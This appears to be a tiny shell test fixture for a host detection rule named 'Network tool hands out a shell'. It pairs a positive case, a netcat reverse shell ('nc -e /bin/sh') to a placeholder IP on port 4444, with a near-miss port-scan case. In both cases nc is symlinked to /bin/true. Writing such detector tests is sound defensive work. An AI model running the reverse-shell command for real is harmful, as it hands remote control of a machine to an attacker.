# rule: Network tool hands out a shell
# where: host
attack() {
    ln -s /bin/true nc
    ./nc -e /bin/sh 192.0.2.7 4444
}
near_miss() {
    ln -s /bin/true nc
    ./nc -z 192.0.2.7 4444
}
